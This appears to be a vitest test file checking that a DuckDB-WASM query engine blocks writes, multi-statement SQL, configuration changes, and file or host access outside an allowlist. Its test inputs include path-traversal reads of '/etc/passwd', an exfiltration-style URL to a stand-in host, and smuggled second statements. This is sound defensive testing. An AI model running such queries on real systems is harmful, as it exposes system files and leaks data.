// The WASM engine (DuckDB-WASM, run here through its blocking Node build) cannot be written through,
// reads no file but uploads and no host but the allowed ones, and tells how DuckDB reads SQL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DuckDbWasmEngine,
  MultipleStatementsError,
} from '../../../src/data/duckdb/duckdb-wasm-engine';
import { nodeWasmRuntime } from '../wasm-node-runtime';

const csv = new TextEncoder().encode('iata,name\nDEN,Denver\nSFO,San Francisco\n');

const smuggledWrites = [
  "UPDATE airports SET name = 'x'",
  'DROP TABLE airports',
  'CREATE TABLE stolen AS SELECT 1 AS x',
  'CREATE MACRO leak(a) AS a',
  "INSERT INTO airports VALUES ('ZZZ', 'Nowhere')",
  'DELETE FROM airports',
  'ALTER TABLE airports RENAME TO gone',
  'CREATE VIEW seen AS SELECT 1',
  "WITH x AS (SELECT 1) UPDATE airports SET name = 'y'",
  'COMMIT',
];

const multipleStatements = [
  "SELECT 1 --x\r; UPDATE airports SET name = 'x'",
  'COMMIT; DROP TABLE airports',
  "SELECT 1; CREATE MACRO leak2(a) AS a; UPDATE airports SET name = 'y'",
];

describe('the DuckDB-WASM engine', () => {
  const engine = new DuckDbWasmEngine({
    runtime: nodeWasmRuntime,
    allowedHosts: ['http://127.0.0.1:9'],
  });
  const snapshot = async () =>
    (await engine.query('SELECT count(*) AS n, min(name) AS first FROM airports')).rows;

  beforeAll(async () => {
    await engine.load({ table: 'airports', format: 'csv', bytes: csv });
  });
  afterAll(() => engine.close());

  it('loads an uploaded CSV although file access is off', async () => {
    expect(await snapshot()).toEqual([{ n: 2, first: 'Denver' }]);
    await engine.load({
      table: 'more',
      format: 'tsv',
      bytes: new TextEncoder().encode('a\tb\n1\t2\n'),
    });
    expect((await engine.query('SELECT * FROM more')).rows).toEqual([{ a: 1, b: 2 }]);
  });

  it.each(smuggledWrites)('rolls back %j', async (sql) => {
    const before = await snapshot();
    await engine.query(sql).catch(() => undefined);
    expect(await snapshot()).toEqual(before);
    expect(await engine.listTables()).toEqual(expect.arrayContaining(['airports']));
    expect(await engine.listTables()).not.toContain('stolen');
    await expect(engine.query('SELECT leak(1)')).rejects.toThrow(/leak/);
  });

  it.each(multipleStatements)('refuses to run several statements: %j', async (sql) => {
    const before = await snapshot();
    await expect(engine.query(sql)).rejects.toThrow(MultipleStatementsError);
    expect(await snapshot()).toEqual(before);
    await expect(engine.query('SELECT leak2(1)')).rejects.toThrow(/leak2/);
  });

  it.each([
    "SELECT * FROM read_text('/etc/hostname')",
    "SELECT * FROM read_csv('http://127.0.0.2:9/leak.csv?conversation=secret')",
    "SELECT * FROM 'http://127.0.0.1:9.evil.example/x.csv'",
    "SELECT * FROM read_csv('/mapwright-uploads/../etc/passwd')",
  ])('reads no file and no host it was not given: %s', async (sql) => {
    await expect(engine.query(sql)).rejects.toThrow(/disabled by configuration/);
  });

  it('may reach an allowed host', async () => {
    const error = await engine.query("SELECT * FROM read_csv('http://127.0.0.1:9/data.csv')").then(
      () => undefined,
      (caught: Error) => caught,
    );
    expect(error?.message ?? '').not.toMatch(/disabled by configuration/);
  });

  it('cannot have its configuration changed', async () => {
    await expect(engine.query('SET enable_external_access = true')).rejects.toThrow(
      /configuration has been locked/,
    );
  });

  it('tells how DuckDB reads SQL: how many statements, without running them', async () => {
    expect(await engine.readStatements('SELECT * FROM airports')).toEqual({ statementCount: 1 });
    expect(await engine.readStatements("SELECT 1 --x\r; UPDATE airports SET name = 'x'")).toEqual({
      statementCount: 2,
    });
    expect(await engine.readStatements('SELECT 1;;')).toEqual({ statementCount: 1 });
    await expect(engine.readStatements('SELEC 1')).rejects.toThrow(/syntax error/i);
    expect(await snapshot()).toEqual([{ n: 2, first: 'Denver' }]);
  });
});

describe('the DuckDB-WASM engine of a writable embedded server', () => {
  const engine = new DuckDbWasmEngine({ runtime: nodeWasmRuntime, allowWrites: true });
  afterAll(() => engine.close());

  it('keeps writes, one statement at a time, and still reads no files', async () => {
    await engine.load({ table: 'airports', format: 'csv', bytes: csv });
    await engine.query("UPDATE airports SET name = 'Mile High' WHERE iata = 'DEN'");
    const result = await engine.query("SELECT name FROM airports WHERE iata = 'DEN'");
    expect(result.rows).toEqual([{ name: 'Mile High' }]);
    await expect(engine.query('SELECT 1; SELECT 2')).rejects.toThrow(MultipleStatementsError);
    await expect(engine.query("SELECT * FROM read_text('/etc/hostname')")).rejects.toThrow(
      /disabled by configuration/,
    );
  });
});
